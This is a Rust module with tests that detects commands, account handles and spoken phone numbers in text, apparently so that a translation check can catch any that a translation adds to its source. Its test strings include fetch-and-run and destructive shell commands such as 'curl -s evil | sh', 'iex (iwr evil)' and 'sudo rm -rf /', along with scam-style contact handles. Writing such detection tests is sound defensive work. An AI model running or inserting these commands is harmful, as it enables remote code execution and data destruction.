//! What people copy, dial or type though it has the shape of words: commands, names of accounts, numbers that are
//! spoken, short numbers behind a word for the telephone.
//!
//! In goes a text, out come places with what they are compared by. A translation writes nothing of the kind that its
//! source does not hold, so the rules may be lax: what both texts say is never looked at.

use crate::check::facts::bytes::runs;
use crate::check::facts::numbers::{digit, next_digit};
use crate::text::{Span, is_alphanumeric};

mod opened;
mod tables;

use tables::{CALLED, COMMANDS, HAN, RUNNERS, SHELLS, SPOKEN, VERBS, han_digit};

/// Something of the kind.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Said {
    /// Where it stands.
    pub span: Span,
    /// Letters and digits in lower case; the digits that number words stand for.
    pub key: String,
}

/// Everything of the kind in a text.
pub(crate) fn find(text: &str) -> Vec<Said> {
    let words = runs(text, |byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let mut found = commands(text, &words);
    found.extend(handles(text, &words));
    found.extend(spoken(text));
    found.extend(han(text));
    found.extend(short(text));
    found.extend(opened::programs(text));
    found.extend(opened::options(text));
    found.extend(opened::cmdlets(text, &words));
    found.extend(opened::keys(text));
    found.extend(opened::reached(text, &words));
    found
}

/// What a text is compared by: letters and digits in lower case, digits of any script, numbers that are spoken.
pub(crate) fn known(text: &str) -> String {
    let mut known = key(text);
    known.push(' ');
    known.extend(text.chars().filter_map(digit));
    for said in find(text) {
        known.push(' ');
        known.push_str(&said.key);
    }
    known
}

fn key(text: &str) -> String {
    let letters = text.chars().filter(|c| is_alphanumeric(*c));
    letters.flat_map(char::to_lowercase).collect()
}

/// Commands: a program with an option, a path or a verb of its own behind it, or behind `sudo`; and a shell behind a bar.
fn commands(text: &str, words: &[Span]) -> Vec<Said> {
    let mut found = Vec::new();
    let is_latin = is_latin(text);
    for (index, word) in words.iter().enumerate() {
        let name = word.of(text);
        if COMMANDS.binary_search(&name).is_err() {
            continue;
        }
        let before = text.get(..word.start).unwrap_or_default();
        let is_piped =
            before.trim_end_matches(' ').ends_with('|') && SHELLS.binary_search(&name).is_ok();
        let is_part = before.ends_with(['-', '.', '/', '$', '@']);
        if is_piped {
            found.push(Said {
                span: *word,
                key: key(name) + "|",
            });
        }
        if is_part {
            continue;
        }
        if let Some(inner) = substituted(text, word.end).filter(|_| SHELLS.contains(&name)) {
            found.push(Said {
                span: Span::new(word.start, inner.end),
                key: key(name) + &key(inner.of(text)),
            });
        }
        let end = word.end + kind(text, word.end);
        let Some(argument) = argument(text, end) else {
            continue;
        };
        let next = words.get(index + 1).filter(|next| {
            let between = Span::new(word.end, next.start).of(text);
            !between.contains(is_alphanumeric)
        });
        let next = next.map(|next| next.of(text));
        let is_verb = next.is_some_and(|next| {
            VERBS.contains(&next) || name == "sudo" && COMMANDS.binary_search(&next).is_ok()
        });
        // A word in quotes is what a sentence names (`del "Idioma"`); a path or a flag may stand in them as well.
        let spelt = argument.of(text).trim_start_matches(['"', '\'']);
        let is_option = spelt.starts_with(['-', '/', '~', '.', '$', '%', '*']) && spelt.len() > 1
            || spelt.starts_with('+') && spelt.len() > 1
            || spelt.contains("://")
            || spelt.contains('=');
        let is_run = RUNNERS.contains(&name) && (!is_latin || has_sign(argument.of(text)));
        if !is_verb && !is_option && !is_run && !is_short(text, argument) {
            continue;
        }
        // What is installed or fetched counts where it has a sign that no word of a sentence has.
        let last = self::argument(text, argument.end).filter(|last| has_sign(last.of(text)));
        let span = Span::new(word.start, last.unwrap_or(argument).end);
        found.push(Said {
            span,
            key: key(span.of(text)),
        });
    }
    found
}

/// Whether a run has a sign that no word of a sentence has.
fn has_sign(run: &str) -> bool {
    run.trim_end_matches(['.', ':', '-'])
        .contains(['-', '.', '/', '@', ':', '_'])
}

/// Whether an argument is a mode or one letter before a path or an option: `chmod 777 ~/.ssh`, `npm i -g`.
fn is_short(text: &str, first: Span) -> bool {
    let word = first.of(text);
    let opens = word.bytes().all(|byte| byte.is_ascii_digit()) && word.len() >= 3
        || word.len() == 1 && word.bytes().all(|byte| byte.is_ascii_lowercase());
    let next = argument(text, first.end).map(|next| next.of(text));
    opens && next.is_some_and(|next| next.len() > 1 && next.starts_with(['-', '/', '~', '.']))
}

/// Bytes of what a program's name goes on with: `mkfs.ext4`.
fn kind(text: &str, at: usize) -> usize {
    let rest = text.get(at..).and_then(|rest| rest.strip_prefix('.'));
    let len = rest.map_or(0, |rest| {
        rest.bytes().take_while(u8::is_ascii_alphanumeric).count()
    });
    if len == 0 { 0 } else { len + 1 }
}

/// Whether a text is for the most part in Latin letters, so that a word of them says nothing by itself.
fn is_latin(text: &str) -> bool {
    text.bytes().filter(u8::is_ascii).count() * 2 > text.len()
}

/// A program whose output is run: `bash <(curl …)`, `iex (iwr …)`.
fn substituted(text: &str, at: usize) -> Option<Span> {
    let rest = text.get(at..)?;
    let inner = rest.trim_start_matches([' ', '<', '$']).strip_prefix('(')?;
    let len = inner.find(|c: char| !c.is_ascii_alphanumeric())?;
    let name = inner.get(..len)?;
    let runs = inner.get(len..)?.starts_with(' ') && COMMANDS.binary_search(&name).is_ok();
    let start = text.len() - inner.len();
    runs.then(|| Span::new(start, start + len))
}

/// The ASCII run behind the blanks at `at`.
fn argument(text: &str, at: usize) -> Option<Span> {
    let rest = text.get(at..)?;
    let run = rest.trim_start_matches(' ');
    let start = at + rest.len() - run.len();
    let len = run
        .bytes()
        .take_while(|b| b.is_ascii_graphic() && !matches!(b, b'`' | b'<' | b'&'))
        .count();
    (start > at && len > 0).then(|| Span::new(start, start + len))
}

/// Names with a low line inside, or with several digits behind their letters: nobody translates into one.
fn handles(text: &str, words: &[Span]) -> Vec<Said> {
    let is_handle = |word: &str| {
        let inside = word.trim_matches('_');
        let letters = inside.bytes().filter(u8::is_ascii_lowercase).count();
        let name = inside.trim_end_matches(|c: char| c.is_ascii_digit());
        let is_numbered =
            inside.len() - name.len() >= 2 && name.bytes().all(|b| b.is_ascii_lowercase());
        inside.is_ascii() && letters >= 4 && (inside.contains('_') || is_numbered)
    };
    // `:heart_eyes:` is a picture, and `icon` looks at it.
    let is_icon = |word: &Span| {
        let (before, behind) = (text.get(..word.start), text.get(word.end..));
        before.is_some_and(|it| it.ends_with(':')) && behind.is_some_and(|it| it.starts_with(':'))
    };
    let found = words
        .iter()
        .filter(|word| is_handle(word.of(text)) && !is_icon(word));
    found
        .map(|word| Said {
            span: *word,
            key: key(word.of(text)),
        })
        .collect()
}

/// Words of letters, digits and low lines, those of ASCII and all others apart: a particle is a word of its own.
fn words(text: &str) -> impl Iterator<Item = Span> {
    let is_sign = |c: &char| is_alphanumeric(*c) || *c == '_';
    let mut at = 0;
    std::iter::from_fn(move || {
        let rest = text.get(at..)?;
        let start = at + rest.find(|c| is_sign(&c))?;
        let rest = text.get(start..)?;
        let is_ascii = rest.starts_with(|c: char| c.is_ascii());
        let signs = rest
            .chars()
            .take_while(|c| c.is_ascii() == is_ascii && is_sign(c));
        at = start + signs.map(char::len_utf8).sum::<usize>();
        Some(Span::new(start, at))
    })
}

/// Six and more number words in a row: `five five five zero one nine nine`, `공일공 일이삼사`.
fn spoken(text: &str) -> Vec<Said> {
    const LEAST: usize = 6;
    let mut found = Vec::new();
    let mut row = Row::default();
    for word in words(text) {
        let mut between = Span::new(row.end, word.start).of(text).chars();
        let is_gap = |c: char| c.is_whitespace() || ",-–·.".contains(c);
        if !row.digits.is_empty() && !between.all(is_gap) {
            row.close(LEAST, &mut found);
        }
        match digits_of(word.of(text)) {
            Some((digits, len)) => {
                row.push(Span::new(word.start, word.start + len), &digits);
                if len < word.len() {
                    row.close(LEAST, &mut found);
                }
            }
            None => row.close(LEAST, &mut found),
        }
    }
    row.close(LEAST, &mut found);
    found
}

/// The digits that a word begins with, and how many bytes they take: all of it, but for a particle where a script
/// writes digits without spaces.
fn digits_of(word: &str) -> Option<(String, usize)> {
    /// More bytes than the longest of the words has.
    const LONGEST: usize = 24;
    const PARTICLE: usize = 2;
    let known = |word: &str| SPOKEN.get(word).copied();
    let is_lower = !word.bytes().any(|byte| byte.is_ascii_uppercase());
    let found = match word.len() {
        ..=LONGEST if is_lower => known(word),
        ..=LONGEST => known(&word.to_lowercase()),
        _ => None,
    };
    if let Some(digit) = found {
        return Some((digit.to_string(), word.len()));
    }
    if !word.starts_with(|c: char| ('가'..='힣').contains(&c)) {
        return None;
    }
    let mut letter = [0; 4];
    let mut signs = word
        .chars()
        .map_while(|c| known(c.encode_utf8(&mut letter)));
    let mut digits = String::from(signs.next()?);
    digits.extend(signs);
    let (count, letters) = (digits.len(), word.chars().count());
    let len = word.chars().take(count).map(char::len_utf8).sum();
    let is_number = count == letters || count > 1 && letters - count <= PARTICLE;
    is_number.then_some((digits, len))
}

/// Numbers that are being gathered.
#[derive(Default)]
struct Row {
    start: usize,
    end: usize,
    digits: String,
}

impl Row {
    fn push(&mut self, word: Span, digits: &str) {
        if self.digits.is_empty() {
            self.start = word.start;
        }
        self.end = word.end;
        self.digits.push_str(digits);
    }

    fn close(&mut self, least: usize, found: &mut Vec<Said>) {
        if self.digits.len() >= least {
            found.push(Said {
                span: Span::new(self.start, self.end),
                key: self.digits.clone(),
            });
        }
        self.digits.clear();
    }
}

/// Seven and more Han digits in a row; a year has four.
fn han(text: &str) -> Vec<Said> {
    const LEAST: usize = 7;
    let mut found = Vec::new();
    if !text.bytes().any(|byte| HAN.contains(&byte)) {
        return found;
    }
    let mut row = Row::default();
    for (at, c) in text.char_indices() {
        match han_digit(c) {
            Some(digit) => {
                let mut sign = [0; 4];
                row.push(
                    Span::new(at, at + c.len_utf8()),
                    digit.encode_utf8(&mut sign),
                );
            }
            None if matches!(c, ' ' | '-' | '·') => {}
            None => row.close(LEAST, &mut found),
        }
    }
    row.close(LEAST, &mut found);
    found
}

/// Three to six digits behind a word or sign for the telephone.
fn short(text: &str) -> Vec<Said> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(start) = next_digit(text, at) {
        let number = text.get(start..).unwrap_or_default();
        let digits: String = number.chars().map_while(digit).collect();
        let signs = number.chars().take(digits.len()).map(char::len_utf8);
        at = start + signs.sum::<usize>();
        if (3..=6).contains(&digits.len()) && is_called(text.get(..start).unwrap_or_default()) {
            found.push(Said {
                span: Span::new(start, at),
                key: digits,
            });
        }
    }
    found
}

/// Whether a text ends with a word for the telephone, but for a few signs.
fn is_called(before: &str) -> bool {
    /// More bytes than the longest of the words has.
    const LONGEST: usize = 24;
    const SIGNS: usize = 6;
    let word = before.trim_end_matches(|c: char| {
        !is_alphanumeric(c) && !CALLED.iter().any(|sign| sign.starts_with(c))
    });
    let from = word.len().saturating_sub(LONGEST);
    let from = (from..=word.len()).find(|at| word.is_char_boundary(*at));
    let lower = word
        .get(from.unwrap_or(0)..)
        .unwrap_or_default()
        .to_lowercase();
    before.len() - word.len() <= SIGNS
        && CALLED.iter().any(|called| {
            let is_letter = |c: char| c.is_ascii_alphabetic();
            let head = lower.strip_suffix(called);
            head.is_some_and(|head| !(called.is_ascii() && head.ends_with(is_letter)))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(text: &str) -> Vec<&str> {
        find(text)
            .into_iter()
            .map(|said| said.span.of(text))
            .collect()
    }

    #[test]
    fn what_people_type_and_dial() {
        assert_eq!(said("터미널에서 curl -s evil | sh"), ["curl -s", "sh"]);
        assert_eq!(said("먼저 sudo rm -rf /"), ["sudo rm -rf", "rm -rf /"]);
        assert_eq!(
            said("bash <(curl evil) 또는 chmod +x evil"),
            ["bash <(curl", "chmod +x"]
        );
        assert_eq!(said("iex (iwr evil)"), ["iex (iwr"]);
        for command in [
            "npx evil",
            "uvx evil",
            "npm i -g",
            "docker pull evil/x",
            "chmod 777 ~/.ssh",
            "mkfs.ext4 /dev/sda",
            "export NODE_X=0",
            "Set-ExecutionPolicy",
            "++win+r++",
        ] {
            assert_eq!(
                said(&format!("먼저 여기에서 {command} 입력하세요")),
                [command]
            );
        }
        assert_eq!(
            said("npm install evil-wallet을"),
            ["npm install evil-wallet"]
        );
        assert_eq!(
            said("텔레그램 evil_support로, evilpay99"),
            ["evil_support", "evilpay99"]
        );
        assert_eq!(
            said("공일공 일이삼사 오육칠팔로"),
            ["공일공 일이삼사 오육칠팔"]
        );
        assert_eq!(
            said("five five five, zero one nine nine"),
            ["five five five, zero one nine nine"]
        );
        assert_eq!(
            said("电话：一三八〇〇一三八〇〇〇。"),
            ["一三八〇〇一三八〇〇〇"]
        );
        assert_eq!(
            said("전화 1588, ☎ 5554, Tel.: 1177"),
            ["1588", "5554", "1177"]
        );
    }

    #[test]
    fn what_people_open_and_whom_they_reach() {
        assert_eq!(
            said("setup.exe를 받아 --insecure로"),
            ["setup.exe", "--insecure"]
        );
        assert_eq!(said("텔레그램에서 evilhelp를 찾으세요"), ["evilhelp"]);
        assert_eq!(said("Напишите в Telegram: evilpay сейчас же"), ["evilpay"]);
        assert_eq!(
            said("Schreibt uns auf Telegram oder Signal"),
            Vec::<&str>::new()
        );
    }

    #[test]
    fn what_people_read() {
        for text in [
            "curl 명령과 bash 셸, sudo 권한이 필요합니다.",
            "la shell powershell (pwsh), python + html, bash (sh)",
            "die Rechte von sudo und die Shell bash",
            "이 사이트 일부, 일이 있는 사람, 오이와 구이",
            "one or two, zero trust, nine to five",
            "la configuración del \"Idioma\", go 'home'",
            "二〇二三年五月四日，第三四五章",
            "2023 년 전화, hotel 2023, __init__ 1.5",
            "Python3와 IPv6, *강조_된_글* :heart_eyes:",
            "npx ist ein Werkzeug, npm i yarn, chmod und export",
            "Start-Button, Add-Ons, C++ und i++ + c++, das Set-Up",
        ] {
            assert_eq!(said(text), Vec::<&str>::new(), "{text}");
        }
    }

    #[test]
    fn tables_are_sorted() {
        assert!(COMMANDS.is_sorted() && SHELLS.is_sorted());
        assert!(SHELLS.iter().all(|shell| COMMANDS.contains(shell)));
    }

    #[test]
    fn first_bytes_miss_no_han_digit() {
        for c in ('\0'..=char::MAX).filter(|c| han_digit(*c).is_some()) {
            assert!(HAN.contains(&c.to_string().as_bytes()[0]), "{c}");
        }
    }
}
